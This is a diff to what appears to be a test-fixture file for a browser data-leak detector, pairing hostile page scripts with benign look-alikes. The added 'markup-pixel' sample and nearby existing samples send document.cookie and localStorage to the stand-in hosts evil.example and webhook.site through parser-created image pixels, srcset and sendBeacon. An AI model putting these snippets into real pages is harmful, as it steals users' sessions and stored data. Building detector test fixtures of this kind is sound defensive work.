@@ -164,6 +164,22 @@ export const MAIN_WORLD_SCRIPTS = {
   new Image().srcset = decoys + 'https://evil.example/p-overflow.gif?c=' + c + ' 1x';
 })();`,
 
+  /**
+   * Image pixels the HTML parser creates: markup into a detached element (it loads all the same), next to
+   * an element, in place of one, into a closed shadow root, and through a Range's contextual fragment.
+   */
+  'markup-pixel': `(() => {
+  const c = encodeURIComponent(document.cookie);
+  const to = (name) => 'https://evil.example/' + name + '.gif?c=' + c;
+  document.createElement('div').innerHTML = '<IMG alt="" src="' + to('p-inner') + '">';
+  document.body.insertAdjacentHTML('beforeend', '<picture><source srcset="' + to('p-adjacent') + ' 1x"><img alt=""></picture>');
+  const spot = document.body.appendChild(document.createElement('span'));
+  spot.outerHTML = '<img\\nsrc="' + to('p-outer') + '">';
+  const host = document.body.appendChild(document.createElement('div'));
+  host.attachShadow({ mode: 'closed' }).innerHTML = '<img src="' + to('p-shadow') + '">';
+  document.body.append(document.createRange().createContextualFragment('<img src="' + to('p-fragment') + '">'));
+})();`,
+
   /** Leaks storage by sendBeacon to a webhook site. */
   'beacon-storage': `navigator.sendBeacon('https://webhook.site/5c1a-test', JSON.stringify({ ...localStorage, cookie: document.cookie }));`,
 
@@ -354,6 +370,11 @@ export const BENIGN = {
   wide.sizes = '100vw';
   wide.srcset = widths + 'https://img.example/ilbis-4000.jpg 4000w';
   document.body.append(cover, picture, zoom, wide);
+  // The same pictures as markup: the shop's own, and its image host's.
+  const strip = document.createElement('div');
+  strip.innerHTML = '<img src="' + own + '-strip.jpg?v=' + v + '"><picture><source srcset="https://img.example/ilbis-strip.webp 1x"><img src="/static/coins/ilbis-strip.jpg"></picture>';
+  strip.insertAdjacentHTML('beforeend', '<img srcset="' + own + '-strip@2x.jpg 2x">');
+  document.body.append(strip);
   window.__gallery = true;
 })();`,
   /** A monitoring library (error/performance tracking) that wraps fetch and addEventListener, calling through. */
